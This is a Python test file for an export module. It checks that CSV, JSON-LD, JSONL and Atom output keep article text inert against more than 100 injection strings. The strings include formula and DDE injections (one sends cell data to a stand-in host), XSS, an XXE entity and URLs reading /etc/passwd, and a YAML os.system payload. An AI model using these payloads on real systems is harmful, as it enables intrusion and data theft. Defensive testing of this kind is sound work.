"""What articles say stays words in every export, whatever it was meant to become (S7)."""

import csv
import io
import json
import re
from html.parser import HTMLParser
from typing import Any

import feedparser
import pytest

from saidby.read.xml_tree import parse
from saidby.records import Span
from saidby.views.export import tables
from saidby.views.export.atom import revision_feed
from saidby.views.export.columns import Type
from saidby.views.export.jsonl import lines
from saidby.views.export.jsonld import json_ld
from saidby.views.export.material import Material
from saidby.views.export.rows import csv_lines, json_lines
from saidby.views.forms import article_form, story_form
from tests.views.export.build import Told, made

FORMULAS = [
    *("=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\u3000=1+1"),
    *('=HYPERLINK("http://velby.example?"&A1,"more")', "=cmd|' /C calc'!A0", '=DDE("cmd";"/C calc";"x")'),
    *('=IMPORTXML(CONCAT("http://velby.example/",A1),"//a")', "=WEBSERVICE(A1)", "@=1+1", "'=1+1", "''=1+1"),
    *("＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "-2+3+cmd|' /C calc'!D2", "=1;=2", "12;=1+1", "12; =1+1", "12\t=1+1"),
    *("12\r\n=1+1", "12\n+1", "12\r@A1", '12";=1+1;"', '";=1+1', '"=1+1"', "a;'=1", "--06-16", "=\x00 1+1", "\x00=1+1"),
]
PAGES = [
    *("<script>alert(1)</script>", "</script><script>alert(1)</script>", "</SCRIPT ><img src=x onerror=alert(1)>"),
    *("<!--<script>", "--><script>alert(1)</script>", "]]><script>alert(1)</script>", "<![CDATA[<script>]]>"),
    *("<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>"),
    *("<iframe srcdoc='<script>alert(1)</script>'>", "<math><mtext></p><script>alert(1)</script>", "&lt;script&gt;"),
    *(
        "&#60;script&#62;",
        "<a href='javascript:alert(1)'>x</a>",
        "\u2028alert(1)",
        "\u2029alert(1)",
        "\\u003cscript\\u003e",
    ),
    *(
        '"},{"@type":"Person"}',
        '","@id":"urn:x"',
        "\\",
        '\\"',
        "{{7*7}}",
        "${7*7}",
        "<%= 7 %>",
        "#{7*7}",
        "]]>",
        "<?xml?>",
    ),
    *("<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;", "<link rel=alternate href=javascript:alert(1)>"),
]
ADDRESSES = [
    *(
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
    ),
    *(
        "vbscript:msgbox(1)",
        "file:///etc/passwd",
        'http://velby.example/"><script>alert(1)</script>',
        "//velby.example",
    ),
    *("https://velby.example/</script>", "urn:x", "http://[::1", "https://velby.example/\r\nX: y"),
]
MARKUP = [
    *("[x](javascript:alert(1))", "![x](http://velby.example/x.png)", "[x]: javascript:alert(1)", "| a | b |\n| --- |"),
    *("`code`", "```\nx\n```", "# head", "{{cite news|x}}", "[[Category:X]]", "<ref>x</ref>", "{|\n|-\n|}", "'''x'''"),
]
YAML = ["!!python/object/apply:os.system ['x']", "&a [*a,*a]", "---\n- x", "? x\n: y", "<<: *x", "%YAML 1.1"]
CONTROLS = [
    "\x1b[2J",
    "\x1b]0;x\x07",
    "\x9b31m",
    "\x08\x08x",
    "a\x00b",
    "\x7f",
    "\u202etxt.exe",
    "\u2066x\u2069",
    "\x85x",
    "\x0c",
]
PAYLOADS = [*FORMULAS, *PAGES, *ADDRESSES, *MARKUP, *YAML, *CONTROLS]
STEERING = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
FORMULA = re.compile(r"\s*[=+\-@＝＋－＠]")
NUMBERS: set[Type] = {"integer", "number", "boolean"}


def story(payload: str) -> Told:
    return made(f"{payload} 12 died. {payload}", [Span(0, len(payload)), Span(0, len(payload) + 3)], words=payload)


def test_there_are_enough_of_them() -> None:
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 100


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_is_a_formula_or_steers_a_terminal(payload: str) -> None:
    for name, columns, rows in tables(*story(payload)):
        page = "".join(csv_lines(columns, rows))
        assert not STEERING.search(page)
        for row in csv.DictReader(io.StringIO(page, newline=""), strict=True):
            for column in columns:
                if column.type not in NUMBERS:
                    assert not FORMULA.match(row[column.name]), (name, column.name)
                    assert not re.search(r"[;\t\r\n][^\S\r\n]*[=+\-@＝＋－＠]", row[column.name]), (name, column.name)


class Page(HTMLParser):
    """What a browser would see in a page: its elements, and what stands in scripts."""

    def __init__(self) -> None:
        super().__init__()
        self.elements: list[str] = []
        self.words = ""

    def handle_starttag(self, tag: str, attrs: object) -> None:
        self.elements.append(tag)

    def handle_data(self, data: str) -> None:
        self.words += data


@pytest.mark.parametrize("payload", PAYLOADS)
def test_linked_data_stays_in_its_script_element(payload: str) -> None:
    text = "".join(json_ld([Material(*story(payload))], version="1"))
    page = Page()
    page.feed(f'<script type="application/ld+json">{text}</script>')
    page.close()
    assert page.elements == ["script"]
    assert page.words == text
    graph = json.loads(page.words)["@graph"]
    names = [node["name"] for node in graph if node["id"].startswith("urn:saidby:story:")]
    assert names == [payload]
    assert all(re.fullmatch(r"https?://[^\s<>\"{}|\\^`]+|urn:saidby:[\w.~:%-]+", iri) for iri in iris(graph))
    assert not STEERING.search(text)


def iris(value: Any) -> list[str]:
    """Return all IRIs in a document."""
    if isinstance(value, list):
        return [iri for one in value for iri in iris(one)]
    if isinstance(value, dict):
        own = [value["id"]] if "id" in value else []
        return own + [iri for one in value.values() for iri in iris(one)]
    return []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_lines_and_arrays_are_json_and_nothing_else(payload: str) -> None:
    told = story(payload)
    for line in lines(story_form(told[0]), map(article_form, told[1])):
        assert not STEERING.search(line)
        assert not set("<>&\u2028\u2029") & set(line)
        assert json.loads(line)["type"]
    for _, columns, rows in tables(*told):
        page = "".join(json_lines(columns, rows))
        assert not STEERING.search(page)
        assert not set("<>&\u2028\u2029") & set(page)
        json.loads(page)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_feed_is_words_and_links_to_the_web(payload: str) -> None:
    feed = revision_feed([Material(*story(payload))])
    root = parse(feed, "revised.xml")
    names = {element.tag.rpartition("}")[2] for element in root.iter()}
    assert names <= {"feed", "id", "title", "updated", "entry", "author", "name", "category", "content", "link"}
    found = feedparser.parse(io.BytesIO(feed))
    assert not found.bozo
    for link in found.entries[0].get("links", ()):
        assert re.match(r"https?://", link.href)
    shown = re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", "�", payload)
    assert shown in "".join(root.itertext())
    assert {e.get("type") for e in root.iter() if e.tag.endswith("content")} == {"text"}
